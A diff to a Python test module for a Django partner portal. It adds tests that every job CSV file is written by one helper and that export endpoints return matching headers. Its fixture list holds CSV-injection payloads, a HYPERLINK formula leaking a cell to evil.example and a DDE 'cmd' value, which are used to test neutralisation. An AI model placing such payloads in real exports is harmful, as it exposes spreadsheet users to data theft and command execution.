@@ -17,6 +17,7 @@ from partnerhub.deals import services
 
 SRC = Path(__file__).resolve().parents[2] / "src" / "partnerhub"
 HELPER = SRC / "core" / "downloads.py"
+FILE_WRITER = SRC / "core" / "background.py"
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
 
@@ -83,6 +84,27 @@ def _is_csv_writer(node: ast.AST) -> bool:
 
 def test_no_module_of_src_writes_csv_without_the_helper():
     assert _csv_writers_outside_the_helper() == [], "write CSV with partnerhub.core.downloads (csv_response, write_csv)"
+
+
+def _write_csv_callers() -> list[str]:
+    """Every module of src/ that calls `write_csv` itself (the one writer of jobs' CSV files and the helper aside)."""
+    found = []
+    for path in sorted(SRC.rglob("*.py")):
+        if path in {HELPER, FILE_WRITER}:
+            continue
+        for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
+            if (
+                isinstance(node, ast.Name | ast.Attribute)
+                and getattr(node, "id", getattr(node, "attr", "")) == "write_csv"
+            ):
+                found.append(f"{path.relative_to(SRC)}:{node.lineno}")
+    return found
+
+
+def test_every_csv_file_a_job_writes_is_written_by_one_function():
+    """A job's CSV file is written by `core.background.write_csv_file` (the same spooling, encoding and retry rule
+    for every export), never by a module spooling `write_csv` itself."""
+    assert _write_csv_callers() == [], "write a job's CSV file with partnerhub.core.background.write_csv_file"
 
 
 def test_the_walk_finds_a_csv_writer(tmp_path, monkeypatch):
@@ -158,3 +180,25 @@ def test_the_partner_list_export_neutralises_names(
 
     assert "'" + HOSTILE[2] in cells
     assert HOSTILE[2] not in cells
+
+
+@pytest.mark.django_db
+def test_a_jobs_file_and_an_answer_in_the_request_carry_the_same_headers(
+    api_client, client, manager_user, make_partner, settings, tmp_path, django_capture_on_commit_callbacks
+):
+    settings.MEDIA_ROOT = tmp_path
+    make_partner("Northwind", contact_email="x@y.example")
+    client.force_login(manager_user)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post("/console/partners.csv")
+    job = Job.objects.get()
+
+    answers = [
+        client.get(f"/console/jobs/{job.pk}/file/"),
+        api_client(manager_user).get(f"/api/v1/jobs/{job.pk}/file/"),
+        api_client(manager_user).get("/api/v1/deals/export.csv"),
+    ]
+
+    assert [answer["Content-Type"] for answer in answers] == ["text/csv; charset=utf-8"] * 3
+    assert [answer["Content-Disposition"].split(";")[0] for answer in answers] == ["attachment"] * 3
+    assert f'filename="{job.result["filename"]}"' in answers[0]["Content-Disposition"]
